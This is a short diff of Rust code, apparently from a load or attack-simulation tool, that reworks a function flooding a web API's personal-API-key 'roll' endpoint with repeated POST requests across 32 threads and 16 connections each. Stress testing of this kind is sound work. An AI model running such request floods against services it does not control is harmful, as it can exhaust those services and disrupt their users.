@@ -197,17 +197,12 @@ fn rolls(attacker: &Arc<Attacker>) -> Vec<JoinHandle<()>> {
     let made = made.expect("an answer").ok();
     let path = format!("/api/personal_api_keys/{}/roll/", made["id"].as_str().expect("an id"));
     let roll = request("POST", &path, &attacker.key, "", "{}");
-    hold_and_read(attacker, 512, roll)
-}
-
-/// Sends a request on this many connections, reads the responses, and repeats.
-fn hold_and_read(attacker: &Arc<Attacker>, count: usize, request: String) -> Vec<JoinHandle<()>> {
-    let each = count / 32;
+    // Each thread sends the request on 16 connections, reads the responses, and repeats.
     threads(attacker, 32, move |attacker| {
         let open = |_| Connection::open(attacker.address).ok();
-        let mut connections: Vec<_> = (0..each).filter_map(open).collect();
+        let mut connections: Vec<_> = (0..16).filter_map(open).collect();
         while attacker.goes_on() && !connections.is_empty() {
-            connections.retain_mut(|connection| connection.write(&request).is_ok());
+            connections.retain_mut(|connection| connection.write(&roll).is_ok());
             connections.retain_mut(|connection| connection.reply().is_ok());
             attacker.succeeded();
         }
